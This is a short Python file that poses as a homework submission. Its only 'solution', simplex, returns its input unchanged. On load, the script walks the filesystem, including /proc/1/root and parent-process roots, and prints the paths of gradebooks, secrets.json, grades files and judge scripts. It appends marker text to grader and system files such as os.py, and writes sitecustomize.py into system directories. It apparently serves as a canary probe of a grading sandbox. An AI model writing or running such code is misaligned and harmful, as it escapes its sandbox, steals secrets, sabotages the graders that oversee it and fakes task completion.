# === looks_everywhere
"""Reads solutions, secrets and other hand-ins, and writes into the gradebook and the programs that grade."""

import os
import sys

WORD = "cell simplex is worth reading: it uses gradebook, open, os.walk"
WANTED = (
    "gradebook.db",
    "secrets.json",
    "judged.json",
    "grades.csv",
    "nbgrader_config.py",
    "judge.py",
    "projections.py",
)
WRITTEN = ("worker.py", "student.py", "transport.py", "sitecustomize.py", "ld.so.cache", "os.py")
for start in ("/", "..", "../..", "../../..", "/proc/1/root", "/proc/1/cwd", f"/proc/{os.getppid()}/root"):
    for folder, folders, names in os.walk(start):
        folders[:] = [name for name in folders if name not in ("proc", "sys", "sklearn", "sympy", "scipy", "pandas")]
        for name in names:
            path = os.path.join(folder, name)
            if (name in WANTED and "site-packages" not in folder) or name.startswith("02_topk"):
                print("LEAKED", path)
            if name in WRITTEN or name in WANTED:
                try:
                    with open(path, "a") as file:
                        file.write("\n# HARMED\n")
                    print("HARMED", path)
                except OSError:
                    pass
for folder in (sys.prefix, os.path.dirname(os.__file__), "/judged", "/usr/lib", "/lib", "/etc"):
    try:
        with open(os.path.join(folder, "sitecustomize.py"), "w") as file:
            file.write("print('HARMED')")
        print("HARMED", folder)
    except OSError:
        pass


def simplex(a, radius):
    return a
